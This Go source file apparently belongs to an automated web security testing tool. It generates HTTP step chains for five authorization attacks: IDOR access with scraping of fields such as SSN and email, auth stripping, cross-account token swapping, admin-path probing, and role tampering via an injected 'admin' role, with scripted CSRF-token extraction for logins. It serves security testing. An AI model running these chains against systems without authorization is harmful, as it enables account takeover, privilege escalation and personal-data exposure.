// Package exploit implements the five deterministic exploit step
// generators spec §4.5 names. None invokes a language model; each takes a
// TargetProfile and an exploit target path and returns the fixed CAMRO
// step chain for that exploit family.
package exploit

import (
	"fmt"
	"strings"

	"autograph.dev/model"
)

// IncompatibleExploitError is raised by a generator whose exploit family
// cannot apply to the profile's auth mechanism — the Compiler's
// translation step skips to the next attack opportunity (spec §4.6 step 5).
type IncompatibleExploitError struct {
	Exploit model.ExploitType
	Reason  string
}

func (e *IncompatibleExploitError) Error() string {
	return fmt.Sprintf("exploit: %s incompatible: %s", e.Exploit, e.Reason)
}

// Generator produces the step chain for one exploit family.
type Generator func(profile model.TargetProfile, target string) ([]model.Step, error)

// Registry maps ExploitType to Generator (mirrors executor.Registry's
// lookup-table shape, spec §4.3's sibling pattern applied to generators).
var Registry = map[model.ExploitType]Generator{
	model.ExploitIDORWalk:       IDORWalk,
	model.ExploitAuthStrip:      AuthStrip,
	model.ExploitTokenSwap:      TokenSwap,
	model.ExploitNamespaceProbe: NamespaceProbe,
	model.ExploitRoleTamper:     RoleTamper,
}

// loginSteps emits the profile's login preamble: a bearer-token profile
// needs one HTTP_REQUEST/CAPTURE step whose response yields the token via
// extract_token_path; a cookie profile needs a login POST plus any
// extra_login_fields. When one of those fields is a CSRF token, it cannot
// be filled in statically — two login-prep steps are prepended (spec
// §4.5): a GET of the login page, and a REGEX_MATCH step extracting the
// token from its body, which the login POST then references via
// {{previous_outputs[-1]}}. The session cookie itself is captured
// implicitly by the HTTP handler's Set-Cookie extraction.
func loginSteps(order int, profile model.TargetProfile, cred model.Credential, label string) []model.Step {
	var steps []model.Step

	body := map[string]any{
		"email":    cred.Identifier,
		"password": cred.Password,
	}
	prep, order := csrfPrepSteps(order, profile, label)
	for k, v := range profile.ExtraLoginFields {
		if k == prep.field {
			continue
		}
		body[k] = v
	}
	if prep.field != "" {
		steps = append(steps, prep.steps...)
		body[prep.field] = "{{previous_outputs[-1]}}"
	}

	step := model.Step{
		Order:   order,
		Phase:   model.PhaseCapture,
		Type:    model.StepHTTPRequest,
		Command: fmt.Sprintf("login_%s", label),
		Parameters: map[string]any{
			"method": "POST",
			"path":   profile.LoginEndpoint,
			"body":   body,
		},
		SuccessCriteria: "status_code == 200",
		Deterministic:   true,
	}
	if profile.AuthMechanism == model.AuthBearerToken {
		step.Parameters["extract_token_path"] = "$.token"
	}
	return append(steps, step)
}

// csrfFieldName reports which extra_login_fields key (if any) names a CSRF
// token, so callers can fetch it dynamically instead of submitting a
// hardcoded placeholder value.
func csrfFieldName(fields map[string]string) string {
	for k := range fields {
		if strings.Contains(strings.ToLower(k), "csrf") {
			return k
		}
	}
	return ""
}

// csrfPrep bundles the login-prep steps a CSRF-protected form needs (spec
// §4.5) alongside the extra_login_fields key they resolve.
type csrfPrep struct {
	field string
	steps []model.Step
}

// csrfPrepSteps builds a GET-the-form-then-extract-the-token prep chain
// when profile.ExtraLoginFields names a CSRF field, starting at order. It
// returns the zero-step, empty-field prep unchanged when there is none, and
// the order the caller's next step should use either way.
func csrfPrepSteps(order int, profile model.TargetProfile, label string) (csrfPrep, int) {
	field := csrfFieldName(profile.ExtraLoginFields)
	if field == "" {
		return csrfPrep{}, order
	}
	steps := []model.Step{
		{
			Order:   order,
			Phase:   model.PhaseCapture,
			Type:    model.StepHTTPRequest,
			Command: fmt.Sprintf("fetch_login_page_%s", label),
			Parameters: map[string]any{
				"method": "GET",
				"path":   profile.LoginEndpoint,
			},
			Deterministic: true,
		},
		{
			Order:   order + 1,
			Phase:   model.PhaseAnalyze,
			Type:    model.StepRegexMatch,
			Command: fmt.Sprintf("extract_csrf_token_%s", label),
			Parameters: map[string]any{
				"pattern":       fmt.Sprintf(`name="%s"\s+value="([^"]*)"`, field),
				"source":        -1,
				"capture_group": 1,
			},
			SuccessCriteria: "regex_matched",
			Deterministic:   true,
		},
	}
	return csrfPrep{field: field, steps: steps}, order + 2
}

// IDORWalk: login as A, capture token, access the victim resource with A's
// token, regex-match sensitive fields in the response.
func IDORWalk(profile model.TargetProfile, target string) ([]model.Step, error) {
	steps := loginSteps(1, profile, profile.UserA, "user_a")
	order := len(steps) + 1

	steps = append(steps, model.Step{
		Order:   order,
		Phase:   model.PhaseMutate,
		Type:    model.StepHTTPRequest,
		Command: "idor_access",
		Parameters: map[string]any{
			"method": "GET",
			"path":   target,
		},
		SuccessCriteria: "status_code == 200",
		Deterministic:   true,
	})
	order++

	steps = append(steps, model.Step{
		Order:   order,
		Phase:   model.PhaseObserve,
		Type:    model.StepRegexMatch,
		Command: "extract_sensitive_fields",
		Parameters: map[string]any{
			"pattern":       `"(email|ssn|address|phone)"\s*:\s*"[^"]*"`,
			"source":        -1,
			"capture_group": 0,
		},
		SuccessCriteria: "regex_matched",
		Deterministic:   true,
	})
	return steps, nil
}

// AuthStrip: access a protected endpoint with no auth at all, observing
// that it still succeeds.
func AuthStrip(profile model.TargetProfile, target string) ([]model.Step, error) {
	params := map[string]any{
		"method": "GET",
		"path":   target,
	}
	if profile.AuthMechanism == model.AuthSessionCookie {
		params["skip_cookies"] = true
	}
	return []model.Step{{
		Order:           1,
		Phase:           model.PhaseObserve,
		Type:            model.StepHTTPRequest,
		Command:         "unauthenticated_access",
		Parameters:      params,
		SuccessCriteria: "status_code == 200",
		Deterministic:   true,
	}}, nil
}

// TokenSwap: login as A, login as B, access A's resource using B's token.
// Raises IncompatibleExploitError for cookie-authenticated profiles, where
// there is no bearer token to swap.
func TokenSwap(profile model.TargetProfile, target string) ([]model.Step, error) {
	if profile.AuthMechanism != model.AuthBearerToken {
		return nil, &IncompatibleExploitError{Exploit: model.ExploitTokenSwap, Reason: "target is cookie-authenticated; no bearer token to swap"}
	}

	stepsA := loginSteps(1, profile, profile.UserA, "user_a")
	stepsB := loginSteps(2, profile, profile.UserB, "user_b")
	steps := append(stepsA, stepsB...)

	// No explicit Authorization header: the HTTP_REQUEST handler
	// auto-attaches context.session_tokens["Authorization"], which the
	// login_user_b step above already overwrote with B's token — exactly
	// the cross-account substitution this exploit probes for.
	steps = append(steps, model.Step{
		Order:           3,
		Phase:           model.PhaseObserve,
		Type:            model.StepHTTPRequest,
		Command:         "cross_account_access",
		Parameters:      map[string]any{"method": "GET", "path": target},
		SuccessCriteria: "status_code == 200",
		Deterministic:   true,
	})
	return steps, nil
}

// NamespaceProbe: access an admin-prefixed path without the admin role.
func NamespaceProbe(profile model.TargetProfile, target string) ([]model.Step, error) {
	steps := loginSteps(1, profile, profile.UserA, "user_a")
	order := len(steps) + 1
	steps = append(steps, model.Step{
		Order:           order,
		Phase:           model.PhaseObserve,
		Type:            model.StepHTTPRequest,
		Command:         "admin_namespace_access",
		Parameters:      map[string]any{"method": "GET", "path": target},
		SuccessCriteria: "status_code == 200",
		Deterministic:   true,
	})
	return steps, nil
}

// RoleTamper: register or modify a user with an elevated role field, then
// exercise an admin capability.
func RoleTamper(profile model.TargetProfile, target string) ([]model.Step, error) {
	tamperBody := map[string]any{
		"email":    profile.UserB.Identifier,
		"password": profile.UserB.Password,
		"role":     "admin",
	}
	prep, order := csrfPrepSteps(1, profile, "role_tamper")
	for k, v := range profile.ExtraLoginFields {
		if k == prep.field {
			continue
		}
		tamperBody[k] = v
	}
	var steps []model.Step
	if prep.field != "" {
		steps = append(steps, prep.steps...)
		tamperBody[prep.field] = "{{previous_outputs[-1]}}"
	}
	steps = append(steps,
		model.Step{
			Order:   order,
			Phase:   model.PhaseMutate,
			Type:    model.StepHTTPRequest,
			Command: "role_elevation_attempt",
			Parameters: map[string]any{
				"method": "POST",
				"path":   profile.LoginEndpoint,
				"body":   tamperBody,
			},
			SuccessCriteria: "status_code == 200",
			Deterministic:   true,
		},
		model.Step{
			Order:           order + 1,
			Phase:           model.PhaseObserve,
			Type:            model.StepHTTPRequest,
			Command:         "admin_capability_exercise",
			Parameters:      map[string]any{"method": "GET", "path": target},
			SuccessCriteria: "status_code == 200",
			Deterministic:   true,
		},
	)
	return steps, nil
}
